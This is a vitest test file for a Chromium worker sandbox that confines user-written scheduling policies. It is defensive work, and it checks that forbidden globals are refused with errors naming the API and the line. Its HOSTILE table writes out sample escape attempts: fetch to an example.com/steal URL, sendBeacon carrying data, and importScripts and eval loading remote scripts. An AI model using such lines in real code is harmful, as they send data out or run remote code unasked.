import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunRequest } from '../../workers/browser/run-protocol';
import { FORBIDDEN_GLOBALS } from '../../workers/browser/sandbox';
import type { Lab } from './fixtures/pool-page';
import { onLine5 } from './fixtures/policies';
import { openPoolPage, request, scenario, sourcePolicy, type PoolPage } from './pool-browser';

/**
 * The policy sandbox in headless Chromium: first the locked-down worker scope itself, probed from inside the
 * worker; then hostile policies run through the pool, each stopped with a message that names the API and line 5.
 */

let pool: PoolPage;
beforeAll(async () => {
  pool = await openPoolPage();
});
afterAll(async () => {
  await pool?.close();
});

const refusal = (api: string) => `SandboxError: policy sandbox: ${api} is not available to policies`;

describe('locked-down worker scope', () => {
  it('refuses every forbidden global, wherever Chromium defines it, and cannot be undone', async () => {
    const report = await pool.page.evaluate(() => (window as unknown as { lab: Lab }).lab.probeSandbox());
    expect(report.unlocked).toEqual([]);
    for (const name of FORBIDDEN_GLOBALS) {
      expect(report[name], name).toBe(refusal(name));
      // Either the prototype (fetch lives on WorkerGlobalScope.prototype in Chromium) refuses too, or it never had it.
      expect([refusal(name), 'Error: on no prototype'], `${name} on a prototype`).toContain(report[`${name} on a prototype`]);
      expect(report[`${name} redefined`], `${name} redefined`).toMatch(/^TypeError: Cannot redefine property/);
    }
    expect(report['fetch on a prototype']).toBe(refusal('fetch'));
    expect(report['navigator.sendBeacon']).toBe(refusal('navigator.sendBeacon'));
    expect(report['navigator.storage']).toBe(refusal('navigator.storage'));
    expect(report.postMessage).toBe(refusal('postMessage'));
    expect(report.close).toBe(refusal('close'));
  });

  it('refuses code from strings (the way to dynamic import) but still compiles policies', async () => {
    const report = await pool.page.evaluate(() => (window as unknown as { lab: Lab }).lab.probeSandbox());
    expect(report.eval).toBe(refusal('eval'));
    expect(report.Function).toBe(refusal('the Function constructor (code from a string)'));
    expect(report['function literal constructor']).toBe(refusal('the Function constructor (code from a string)'));
    expect(report['async function constructor']).toBe(refusal('the Function constructor (code from a string)'));
    expect(report['setTimeout string']).toBe(refusal('setTimeout with a string of code'));
    expect(report['setTimeout function']).toBe('reached: number');
    expect(report['instanceof Function']).toBe('true');
    expect(report['compile still works']).toBe('reached: string');
    expect(report['eval after compile']).toBe(refusal('eval'));
    // comlink's own needs stay: MessageChannel (and the captured postMessage, which every other test uses).
    expect(report.MessageChannel).toBe('reached: object');
  });
});

/** [API, statement on line 5 reaching it through the global object, statement using the bare name]. */
const HOSTILE: readonly [string, string, string][] = [
  ['fetch', "(globalThis as any).fetch('https://example.com/steal')", "fetch('https://example.com/steal')"],
  ['XMLHttpRequest', 'new (self as any).XMLHttpRequest()', 'new XMLHttpRequest()'],
  ['WebSocket', "new (self as any).WebSocket('wss://example.com')", "new WebSocket('wss://example.com')"],
  ['EventSource', "new (globalThis as any).EventSource('https://example.com')", "new EventSource('https://example.com')"],
  ['importScripts', "(self as any).importScripts('https://example.com/x.js')", "importScripts('https://example.com/x.js')"],
  ['navigator.sendBeacon', "(self as any).navigator.sendBeacon('https://example.com', 'data')", "navigator.sendBeacon('https://example.com', 'data')"],
  ['indexedDB', "(globalThis as any).indexedDB.open('results')", "indexedDB.open('results')"],
  ['caches', "(globalThis as any).caches.open('x')", "caches.open('x')"],
  ['BroadcastChannel', "new (globalThis as any).BroadcastChannel('lab')", "new BroadcastChannel('lab')"],
  ['Worker', "new (globalThis as any).Worker('x.js')", "new Worker('x.js')"],
  ['SharedWorker', "new (globalThis as any).SharedWorker('x.js')", "new (SharedWorker as any)('x.js')"],
  ['RTCPeerConnection', 'new (globalThis as any).RTCPeerConnection()', 'new RTCPeerConnection()'],
  ['WebTransport', "new (globalThis as any).WebTransport('https://example.com')", "new WebTransport('https://example.com')"],
  ['eval', "(0, (globalThis as any).eval)('import(\"https://example.com/x.js\")')", "eval('import(\"https://example.com/x.js\")')"],
  ['Function constructor', "new (globalThis as any).Function('return import(\"https://example.com\")')()", "new Function('return import(\"https://example.com\")')()"],
  ['postMessage', "(self as any).postMessage({ fake: 'result' })", "postMessage({ fake: 'result' })"],
];

describe('hostile policies', () => {
  it('are stopped with a message naming the API and the line, through the global object or the bare name', async () => {
    const requests: RunRequest[] = HOSTILE.flatMap(([api, viaGlobal, bare], i) => [
      request(`${i}-global`, scenario('ft06'), sourcePolicy(onLine5(viaGlobal), 'hostile.ts')),
      request(`${i}-bare`, scenario('ft06'), sourcePolicy(onLine5(bare), 'hostile.ts')),
    ]);
    const record = await pool.run('hostile', requests);
    const outcomes = new Map(record.outcomes);
    HOSTILE.forEach(([api], i) => {
      for (const form of ['global', 'bare']) {
        const outcome = outcomes.get(`${i}-${form}`);
        expect(outcome?.ok, `${api} (${form})`).toBe(false);
        if (outcome?.ok !== false) continue;
        // Bare names of network and storage globals meet compilePolicy's stand-ins first ("policies cannot use
        // fetch"); everything else meets the sandbox. Either way: kind, line and the API's name.
        const name = api.split(' ')[0].replace('navigator.sendBeacon', 'navigator');
        expect(outcome.failure, `${api} (${form})`).toMatchObject({ kind: 'policy', line: 5 });
        expect(outcome.failure.message, `${api} (${form})`).toContain('hostile.ts:5');
        expect(outcome.failure.message, `${api} (${form})`).toContain(name);
        expect(outcome.failure.message, `${api} (${form})`).toMatch(/policy sandbox: .* is not available to policies|policies cannot use/);
      }
    });
  });

  it('are stopped at load time too, pointing at the line', async () => {
    const source = ["import type { JobShopPolicy } from 'schedlab/jobshop';", '', "void (globalThis as any).fetch('https://example.com');", 'export default {} as JobShopPolicy;'].join('\n');
    const record = await pool.run('load', [request('load', scenario('ft06'), sourcePolicy(source, 'loader.ts'))]);
    expect(record.outcomes[0][1]).toMatchObject({
      ok: false,
      failure: { kind: 'compile', line: 3, message: expect.stringContaining('policy sandbox: fetch is not available to policies') },
    });
  });
});
